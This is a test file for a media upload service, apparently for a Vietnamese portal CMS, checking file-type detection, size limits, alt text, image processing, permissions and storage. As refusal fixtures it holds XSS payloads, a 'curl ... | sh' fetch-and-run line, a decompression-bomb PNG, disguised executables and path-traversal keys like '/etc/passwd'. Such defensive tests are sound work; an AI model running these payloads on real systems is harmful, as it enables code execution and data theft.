/**
 * The media library's rules on a real database (PGlite, or PostgreSQL with DATABASE_URL):
 * type by content, allow-list, disguised and dangerous files, size limits, alt text, image
 * normalisation and WebP sizes, permissions, audit, clean-up of files when a transaction
 * fails; and the local-disk storage.
 */
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import { sql } from 'kysely';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestDatabase, type TestDatabase } from '../../../test/db.ts';
import * as files from '../../../test/multipart.ts';
import { createLocalDiskStorage, createMemoryStorage } from '../../platform/storage/index.ts';
import type { Actor, Role } from '../access/index.ts';
import { contentDisposition, mediaUrl, srcsetFor } from './media.present.ts';
import * as service from './media.service.ts';
import { variantWidths } from './image-variants.ts';

let handle: TestDatabase;
let storage: ReturnType<typeof createMemoryStorage>;
let deps: service.MediaDeps;
let siteA: number;
let siteB: number;
let accountId: number;

beforeAll(async () => {
  handle = await createTestDatabase();
  storage = createMemoryStorage();
  deps = { db: handle.db, storage };
  const sites = await sql<{
    id: number;
  }>`insert into sites (code, kind, name_vi, name_en) values ('so-a', 'portal', 'Sở A', 'Department A'), ('so-b', 'portal', 'Sở B', 'Department B') returning id`.execute(
    handle.db,
  );
  [siteA, siteB] = sites.rows.map((r) => r.id) as [number, number];
  const account = await sql<{
    id: number;
  }>`insert into accounts (email, name, phone, unit, password_hash) values ('bientap@so-a.example', 'Biên tập', '', '', 'x') returning id`.execute(handle.db);
  accountId = account.rows[0]!.id;
});
afterAll(async () => {
  await handle?.destroy();
});

function person(role: Role, siteId: number): Actor {
  return { kind: 'person', accountId, email: 'bientap@so-a.example', ip: '10.1.2.3', sessionId: null, grants: [{ role, siteId, unit: null }] };
}
const editor = () => person('board_member', siteA);
const system: Actor = { kind: 'system', label: 'test' };

async function rowCount(): Promise<number> {
  const r = await handle.db
    .selectFrom('media')
    .select((eb) => eb.fn.countAll<number>().as('n'))
    .executeTakeFirstOrThrow();
  return Number(r.n);
}

async function auditOf(action: string, id: number) {
  return handle.db.selectFrom('audit_log').selectAll().where('action', '=', action).where('target_id', '=', String(id)).execute();
}

/** Expects the upload to be refused with `code`, and nothing stored. */
async function expectRefused(input: service.UploadInput, code: string, messagePart?: RegExp, d: service.MediaDeps = deps) {
  const before = { rows: await rowCount(), files: storage.files.size };
  const err = await service.uploadMedia(d, editor(), siteA, input).then(
    () => undefined,
    (e: unknown) => e as { code: string; status: number; details: { field: string; message: string }[] },
  );
  expect(err, `${input.originalName} should be refused`).toBeDefined();
  expect(err).toMatchObject({ code, status: 422 });
  if (messagePart) expect(err!.details.map((x) => x.message).join(' ')).toMatch(messagePart);
  expect(await rowCount()).toBe(before.rows);
  expect(storage.files.size).toBe(before.files);
  return err!;
}

const image = (width: number, height: number, format: 'png' | 'jpeg' | 'webp' | 'gif' = 'png') =>
  sharp({ create: { width, height, channels: 3, background: { r: 20, g: 90, b: 160 } } })
    .toFormat(format)
    .toBuffer();

describe('images', () => {
  it('stores a JPEG upright, without its metadata, with WebP sizes up to its own width', async () => {
    // 2000×1200 with EXIF orientation 6 (turn 90°) and camera metadata.
    const jpeg = await sharp({ create: { width: 2000, height: 1200, channels: 3, background: '#2a6' } })
      .jpeg()
      .withMetadata({ orientation: 6, exif: { IFD0: { Copyright: 'Bí mật', Make: 'Camera' } } })
      .toBuffer();
    const m = await service.uploadMedia(deps, editor(), siteA, {
      data: jpeg,
      originalName: 'C:\\fakepath\\Ảnh hội nghị.JPG',
      alt: '  Toàn cảnh hội nghị  ',
      caption: 'Hội nghị tổng kết năm 2026',
    });
    expect(m).toMatchObject({
      kind: 'image',
      mime: 'image/jpeg',
      originalName: 'Ảnh hội nghị.JPG',
      downloadName: 'Ảnh hội nghị.JPG',
      alt: 'Toàn cảnh hội nghị',
      width: 1200,
      height: 2000,
      uploadedBy: accountId,
    });
    expect(m.variants.map((v) => v.width)).toEqual([320, 640, 1024, 1200]);

    const row = await handle.db.selectFrom('media').selectAll().where('id', '=', m.id).executeTakeFirstOrThrow();
    expect(row.storage_key).toMatch(/^\d{4}\/\d{2}\/[\w-]{22}\.jpg$/);
    const original = storage.files.get(row.storage_key)!;
    expect(original.contentType).toBe('image/jpeg');
    expect(row.sha256).toBe(createHash('sha256').update(original.data).digest('hex'));
    expect(Number(row.bytes)).toBe(original.data.length);
    const meta = await sharp(original.data).metadata();
    expect(meta).toMatchObject({ format: 'jpeg', width: 1200, height: 2000 });
    expect(meta.exif).toBeUndefined();
    expect(meta.orientation).toBeUndefined();

    for (const v of row.variants) {
      const stored = storage.files.get(v.storage_key)!;
      expect(stored.contentType).toBe('image/webp');
      const vm = await sharp(stored.data).metadata();
      expect(vm).toMatchObject({ format: 'webp', width: v.width, height: v.height });
      expect(vm.exif).toBeUndefined();
      expect(v.height).toBe(Math.round((2000 * v.width) / 1200));
      expect(v.bytes).toBe(stored.data.length);
    }
    const audit = await auditOf('media.upload', m.id);
    expect(audit).toHaveLength(1);
    expect(audit[0]).toMatchObject({ site_id: siteA, actor_id: accountId, target_type: 'media' });
    expect(audit[0]!.summary).toMatchObject({ name: 'Ảnh hội nghị.JPG', kind: 'image', sha256: row.sha256 });
  });

  it('never enlarges: the steps not wider than the image, plus its own width below 1600', async () => {
    const cases: [number, number[]][] = [
      [200, [200]],
      [500, [320, 500]],
      [1024, [320, 640, 1024]],
      [1600, [320, 640, 1024, 1600]],
      [2400, [320, 640, 1024, 1600]],
    ];
    for (const [width, expected] of cases) {
      expect(variantWidths(width)).toEqual(expected);
      const m = await service.uploadMedia(deps, editor(), siteA, { data: await image(width, 100), originalName: `anh-${width}.png`, alt: 'Ô màu xanh' });
      expect(
        m.variants.map((v) => v.width),
        String(width),
      ).toEqual(expected);
      expect(m.width).toBe(width);
      expect(m.mime).toBe('image/png');
    }
  });

  it('takes WebP and GIF, and keeps the frames of an animated GIF', async () => {
    const webp = await service.uploadMedia(deps, editor(), siteA, { data: await image(700, 350, 'webp'), originalName: 'anh.webp', alt: 'Ảnh WebP' });
    expect(webp).toMatchObject({ mime: 'image/webp', width: 700, height: 350 });
    const frame = (colour: string) =>
      sharp({ create: { width: 400, height: 200, channels: 4, background: colour } })
        .png()
        .toBuffer();
    const gif = await sharp([await frame('#f00'), await frame('#00f')], { join: { animated: true } })
      .gif()
      .toBuffer();
    const m = await service.uploadMedia(deps, editor(), siteA, { data: gif, originalName: 'hoat-hinh.gif', alt: 'Hình động hai màu' });
    expect(m).toMatchObject({ mime: 'image/gif', width: 400, height: 200 });
    expect(m.variants.map((v) => [v.width, v.height])).toEqual([
      [320, 160],
      [400, 200],
    ]);
    const row = await handle.db.selectFrom('media').selectAll().where('id', '=', m.id).executeTakeFirstOrThrow();
    expect((await sharp(storage.files.get(row.storage_key)!.data, { animated: true }).metadata()).pages).toBe(2);
    expect((await sharp(storage.files.get(row.variants[0]!.storage_key)!.data, { animated: true }).metadata()).pages).toBe(2);
  });

  it('requires alt text for images (not for other files)', async () => {
    const png = await image(400, 300);
    const err = await expectRefused({ data: png, originalName: 'anh.png' }, 'media.alt_required', /văn bản thay thế/);
    expect(err.details.map((d) => d.field)).toEqual(['alt']);
    await expectRefused({ data: png, originalName: 'anh.png', alt: '   ' }, 'media.alt_required');
    await expectRefused({ data: png, originalName: 'anh.png', alt: 'x'.repeat(service.ALT_MAX + 1) }, 'media.invalid', /tối đa/);
    await expect(service.uploadMedia(deps, editor(), siteA, { data: files.pdfFile(), originalName: 'van-ban.pdf' })).resolves.toMatchObject({
      kind: 'document',
      alt: '',
    });
  });

  it('refuses broken images and images with too many pixels (before decoding them)', async () => {
    const png = await image(400, 300);
    await expectRefused(
      { data: Buffer.concat([png.subarray(0, 60), Buffer.alloc(200)]), originalName: 'hong.png', alt: 'Ảnh hỏng' },
      'media.bad_image',
      /Không đọc được ảnh/,
    );
    const chunk = (type: string, data: Buffer) => {
      const len = Buffer.alloc(4);
      len.writeUInt32BE(data.length);
      const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
      const crc = Buffer.alloc(4);
      crc.writeUInt32BE(crc32(body));
      return Buffer.concat([len, body, crc]);
    };
    const ihdr = Buffer.alloc(13);
    ihdr.writeUInt32BE(20000, 0);
    ihdr.writeUInt32BE(20000, 4);
    ihdr[8] = 8;
    const bomb = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      chunk('IHDR', ihdr),
      chunk('IDAT', deflateSync(Buffer.alloc(20001 * 4))),
      chunk('IEND', Buffer.alloc(0)),
    ]);
    await expectRefused({ data: bomb, originalName: 'bom.png', alt: 'Bom giải nén' }, 'media.too_many_pixels', /quá nhiều điểm ảnh/);
  });
});

describe('types by content', () => {
  it('takes documents, audio and video of the allow-list, whatever their names say', async () => {
    const accepted: [string, Buffer, string, string][] = [
      ['Báo cáo quý 3.pdf', files.pdfFile(), 'document', 'application/pdf'],
      ['Kế hoạch.docx', files.ooxmlFile('docx'), 'document', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
      ['Số liệu.xlsx', files.ooxmlFile('xlsx'), 'document', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
      ['Trình chiếu.pptx', files.ooxmlFile('pptx'), 'document', 'application/vnd.openxmlformats-officedocument.presentationml.presentation'],
      ['Công văn cũ.doc', files.compoundFile([{ name: 'WordDocument' }, { name: '1Table' }]), 'document', 'application/msword'],
      ['Bảng cũ.xls', files.compoundFile([{ name: 'Workbook' }]), 'document', 'application/vnd.ms-excel'],
      ['Trình chiếu cũ.ppt', files.compoundFile([{ name: 'PowerPoint Document' }]), 'document', 'application/vnd.ms-powerpoint'],
      ['Văn bản.odt', files.odfFile('odt'), 'document', 'application/vnd.oasis.opendocument.text'],
      ['Bảng tính.ods', files.odfFile('ods'), 'document', 'application/vnd.oasis.opendocument.spreadsheet'],
      ['Trình bày.odp', files.odfFile('odp'), 'document', 'application/vnd.oasis.opendocument.presentation'],
      ['Bản tin.mp3', files.mp3File(), 'audio', 'audio/mpeg'],
      ['Phỏng vấn.m4a', files.m4aFile(), 'audio', 'audio/mp4'],
      ['Âm thanh.ogg', files.oggFile(), 'audio', 'audio/ogg'],
      ['Ghi âm.wav', files.wavFile(), 'audio', 'audio/wav'],
      ['Phóng sự.mp4', files.mp4File(), 'video', 'video/mp4'],
      ['Clip.webm', files.webmFile(), 'video', 'video/webm'],
    ];
    for (const [name, data, kind, mime] of accepted) {
      const m = await service.uploadMedia(deps, editor(), siteA, { data, originalName: name });
      expect(m, name).toMatchObject({ kind, mime, originalName: name, downloadName: name, bytes: data.length, variants: [], width: null });
      const row = await handle.db.selectFrom('media').select(['storage_key', 'sha256']).where('id', '=', m.id).executeTakeFirstOrThrow();
      expect(storage.files.get(row.storage_key)!.data.equals(data), name).toBe(true);
      expect(row.sha256).toBe(createHash('sha256').update(data).digest('hex'));
    }
    // The name does not decide the type: the download name gets the real extension.
    const renamed = await service.uploadMedia(deps, editor(), siteA, { data: files.pdfFile(), originalName: 'Quyết định.docx' });
    expect(renamed).toMatchObject({ mime: 'application/pdf', downloadName: 'Quyết định.pdf' });
    const bare = await service.uploadMedia(deps, editor(), siteA, { data: files.pdfFile(), originalName: 'quyet-dinh' });
    expect(bare.downloadName).toBe('quyet-dinh.pdf');
  });

  it('refuses programs, scripts, web pages and SVG, and says so when they are disguised', async () => {
    const disguised = await expectRefused({ data: files.exeFile(), originalName: 'anh.jpg', alt: 'Ảnh' }, 'media.disguised');
    expect(disguised.details[0]).toMatchObject({ field: 'file' });
    expect(disguised.details[0]!.message).toContain('“anh.jpg” mang đuôi .jpg nhưng nội dung thật là chương trình chạy được của Windows');
    await expectRefused({ data: files.elfFile(), originalName: 'bao-cao.pdf' }, 'media.disguised', /Linux/);
    await expectRefused({ data: files.exeFile(), originalName: 'setup.exe' }, 'media.dangerous_type', /chương trình chạy được/);
    await expectRefused({ data: files.compoundFile([{ name: 'x' }], files.MSI_CLSID), originalName: 'cai-dat.doc' }, 'media.disguised', /gói cài đặt Windows/);
    await expectRefused(
      { data: Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>'), originalName: 'trang.html' },
      'media.dangerous_type',
      /trang web \(HTML\)/,
    );
    await expectRefused(
      { data: Buffer.from('<p>xin chào</p><img src=x onerror=alert(1)>'), originalName: 'anh.png', alt: 'x' },
      'media.disguised',
      /trang web \(HTML\)/,
    );
    await expectRefused(
      { data: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'), originalName: 'logo.svg', alt: 'Logo' },
      'media.dangerous_type',
      /SVG/,
    );
    await expectRefused(
      {
        data: Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        originalName: 'logo.png',
        alt: 'Logo',
      },
      'media.disguised',
      /SVG/,
    );
    await expectRefused({ data: Buffer.from('#!/bin/sh\ncurl http://example.com | sh\n'), originalName: 'cai-dat.sh' }, 'media.dangerous_type', /kịch bản/);
    await expectRefused({ data: files.ooxmlFile('docm'), originalName: 'mau.docx' }, 'media.disguised', /macro/);
    await expectRefused(
      { data: files.compoundFile([{ name: 'WordDocument' }, { name: 'Macros', storage: true }]), originalName: 'mau.doc' },
      'media.disguised',
      /macro/,
    );
    await expectRefused({ data: files.storedZip([{ name: 'a.txt', data: 'x' }]), originalName: 'tai-lieu.zip' }, 'media.type_refused', /giải nén/);
    await expectRefused({ data: files.compoundFile([{ name: 'Khac' }]), originalName: 'la.bin' }, 'media.type_refused');
    await expectRefused({ data: Buffer.from('Chỉ là văn bản thuần.'), originalName: 'ghi-chu.txt' }, 'media.unknown_type', /Không nhận ra loại/);
    // A real PDF named like a program is refused too.
    await expectRefused({ data: files.pdfFile(), originalName: 'bao-cao.pdf.exe' }, 'media.bad_name', /đuôi \.exe/);
  });

  it('refuses empty files', async () => {
    await expectRefused({ data: Buffer.alloc(0), originalName: 'rong.pdf' }, 'media.empty', /rỗng/);
  });

  it('applies the size limit of the kind', async () => {
    expect(service.SIZE_LIMITS).toEqual({ image: 10 * 1024 * 1024, document: 30 * 1024 * 1024, audio: 50 * 1024 * 1024, video: 200 * 1024 * 1024 });
    expect(service.MAX_UPLOAD_BYTES).toBe(200 * 1024 * 1024);
    const small: service.MediaDeps = { ...deps, limits: { document: 1000, image: 2000 } };
    const pdf = Buffer.concat([files.pdfFile(), Buffer.alloc(1200, 0x20)]);
    await expectRefused({ data: pdf, originalName: 'lon.pdf' }, 'media.too_large', /vượt giới hạn 1000 byte cho tài liệu/, small);
    await expectRefused({ data: await image(1200, 900, 'jpeg'), originalName: 'lon.jpg', alt: 'Ảnh lớn' }, 'media.too_large', /cho ảnh/, small);
    // Audio has its own (default) limit.
    await expect(service.uploadMedia(small, editor(), siteA, { data: files.wavFile(), originalName: 'nho.wav' })).resolves.toMatchObject({ kind: 'audio' });
  });
});

describe('who may do what', () => {
  it('lets only people with content.write on the site upload, edit and delete', async () => {
    const png = await image(100, 100);
    const input = { data: png, originalName: 'a.png', alt: 'Ô vuông' };
    for (const role of ['board_head', 'board_deputy', 'board_member', 'contributor'] as const) {
      await expect(service.uploadMedia(deps, person(role, siteA), siteA, input), role).resolves.toMatchObject({ siteId: siteA });
      await expect(service.uploadMedia(deps, person(role, siteB), siteA, input), `${role} of another site`).rejects.toMatchObject({ status: 403 });
    }
    for (const role of ['site_operator', 'auditor', 'agency_responder', 'hotline_operator'] as const) {
      await expect(service.uploadMedia(deps, person(role, siteA), siteA, input), role).rejects.toMatchObject({ status: 403 });
    }
    const m = await service.uploadMedia(deps, editor(), siteA, input);
    await expect(service.updateMediaText(deps, person('contributor', siteB), m.id, { alt: 'Khác', caption: '' })).rejects.toMatchObject({ status: 403 });
    await expect(service.deleteMedia(deps, person('contributor', siteB), m.id)).rejects.toMatchObject({ status: 403 });
    await expect(service.deleteMedia(deps, person('auditor', siteA), m.id)).rejects.toMatchObject({ status: 403 });
    // Listing: anyone who may enter the site's administration.
    await expect(service.listMedia(deps, person('auditor', siteA), siteA)).resolves.toMatchObject({ page: 1 });
    await expect(service.listMedia(deps, person('auditor', siteB), siteA)).rejects.toMatchObject({ status: 403 });
    await expect(service.getMediaForActor(deps, person('contributor', siteB), m.id)).rejects.toMatchObject({ status: 403 });
  });
});

describe('changes', () => {
  it('updates alt text and caption, audited; an image keeps its alt text', async () => {
    const m = await service.uploadMedia(deps, editor(), siteA, { data: await image(300, 200), originalName: 'b.png', alt: 'Cũ' });
    const updated = await service.updateMediaText(deps, editor(), m.id, { alt: ' Mới ', caption: 'Chú thích mới' });
    expect(updated).toMatchObject({ alt: 'Mới', caption: 'Chú thích mới' });
    const audit = await auditOf('media.update', m.id);
    expect(audit).toHaveLength(1);
    expect(audit[0]!.summary).toMatchObject({ alt: { from: 'Cũ', to: 'Mới' }, caption: { from: '', to: 'Chú thích mới' } });
    await expect(service.updateMediaText(deps, editor(), m.id, { alt: '', caption: '' })).rejects.toMatchObject({ code: 'media.alt_required' });
    await expect(service.updateMediaText(deps, editor(), 987654, { alt: 'x', caption: '' })).rejects.toMatchObject({ status: 404 });
  });

  it('deletes the row and every stored file, audited', async () => {
    const m = await service.uploadMedia(deps, editor(), siteA, { data: await image(900, 600), originalName: 'xoa.png', alt: 'Sẽ xóa' });
    const row = await handle.db.selectFrom('media').selectAll().where('id', '=', m.id).executeTakeFirstOrThrow();
    const keys = [row.storage_key, ...row.variants.map((v) => v.storage_key)];
    expect(keys).toHaveLength(4);
    for (const k of keys) expect(storage.files.has(k)).toBe(true);
    await service.deleteMedia(deps, editor(), m.id);
    for (const k of keys) expect(storage.files.has(k)).toBe(false);
    expect(await service.getMedia(deps, m.id)).toBeUndefined();
    const audit = await auditOf('media.delete', m.id);
    expect(audit).toHaveLength(1);
    expect(audit[0]!.summary).toMatchObject({ name: 'xoa.png', sha256: row.sha256 });
    await expect(service.deleteMedia(deps, editor(), m.id)).rejects.toMatchObject({ status: 404 });
  });

  it('removes the stored files when the transaction fails', async () => {
    const before = storage.files.size;
    const rows = await rowCount();
    // The system may upload anywhere; a site that does not exist fails the insert.
    await expect(
      service.uploadMedia(deps, system, 99_999_999, { data: await image(700, 400), originalName: 'mo-coi.png', alt: 'Mồ côi' }),
    ).rejects.toBeDefined();
    expect(storage.files.size).toBe(before);
    expect(await rowCount()).toBe(rows);
  });

  it('lists a site newest first, a page at a time', async () => {
    const mine = await sql<{
      id: number;
    }>`insert into sites (code, kind, name_vi, name_en) values ('so-c', 'portal', 'Sở C', 'Department C') returning id`.execute(handle.db);
    const siteC = mine.rows[0]!.id;
    const c = person('contributor', siteC);
    const ids: number[] = [];
    for (let i = 1; i <= 5; i++)
      ids.push((await service.uploadMedia(deps, c, siteC, { data: files.pdfFile(`Van ban ${i}`), originalName: `van-ban-${i}.pdf` })).id);
    const first = await service.listMedia(deps, c, siteC, 1, 2);
    expect(first).toMatchObject({ total: 5, pages: 3, page: 1, pageSize: 2 });
    expect(first.items.map((m) => m.id)).toEqual([ids[4], ids[3]]);
    const last = await service.listMedia(deps, c, siteC, 3, 2);
    expect(last.items.map((m) => m.id)).toEqual([ids[0]]);
    expect((await service.listMedia(deps, c, siteC, 99, 2)).page).toBe(3);
  });
});

describe('presenting', () => {
  it('builds URLs, srcset and an RFC 5987 Content-Disposition', () => {
    expect(mediaUrl(12)).toBe('/media/12/goc');
    expect(mediaUrl({ id: 12 }, 640)).toBe('/media/12/640');
    expect(srcsetFor({ id: 7, variants: [{ width: 640 }, { width: 320 }] })).toBe('/media/7/320 320w, /media/7/640 640w');
    expect(srcsetFor({ id: 7, variants: [] })).toBe('');
    expect(contentDisposition('attachment', 'Báo cáo "quý" 3.pdf')).toBe(
      `attachment; filename="Bao cao _quy_ 3.pdf"; filename*=UTF-8''B%C3%A1o%20c%C3%A1o%20%22qu%C3%BD%22%203.pdf`,
    );
  });
});

describe('local disk storage', () => {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'cong-media-'));
  afterAll(() => fs.rmSync(root, { recursive: true, force: true }));

  it('writes whole files under the root, reads, streams ranges and deletes them', async () => {
    const disk = createLocalDiskStorage(root);
    const key = '2026/11/abcDEF123_-.pdf';
    await disk.put(key, Buffer.from('0123456789'), 'application/pdf');
    expect(fs.readdirSync(path.join(root, '2026', '11'))).toEqual(['abcDEF123_-.pdf']);
    expect((await disk.get(key))!.toString()).toBe('0123456789');
    const chunks: Buffer[] = [];
    for await (const c of (await disk.stream!(key, { start: 2, end: 5 }))!) chunks.push(c as Buffer);
    expect(Buffer.concat(chunks).toString()).toBe('2345');
    await disk.put(key, Buffer.from('new'), 'application/pdf');
    expect((await disk.get(key))!.toString()).toBe('new');
    await disk.delete(key);
    await disk.delete(key);
    expect(await disk.get(key)).toBeUndefined();
    expect(await disk.stream!(key)).toBeUndefined();
  });

  it('refuses keys that could leave the root', async () => {
    const disk = createLocalDiskStorage(root);
    for (const bad of ['../x.pdf', '/etc/passwd', '2026/../../x', 'a/./b', 'a//b', 'a\\b', '', '.hidden', '2026/11/..']) {
      await expect(disk.put(bad, Buffer.from('x'), 'text/plain'), bad).rejects.toThrow(/Invalid storage key/);
      await expect(disk.get(bad), bad).rejects.toThrow(/Invalid storage key/);
    }
  });
});
